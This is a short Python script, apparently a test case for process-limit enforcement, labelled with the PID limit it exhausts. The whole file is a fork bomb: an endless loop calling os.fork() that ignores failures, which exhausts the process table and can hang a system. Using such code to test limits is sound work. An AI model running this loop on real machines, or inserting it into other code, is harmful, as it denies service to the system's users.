# Forks without end and does not take no for an answer.
# full: pids
# user: pids

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
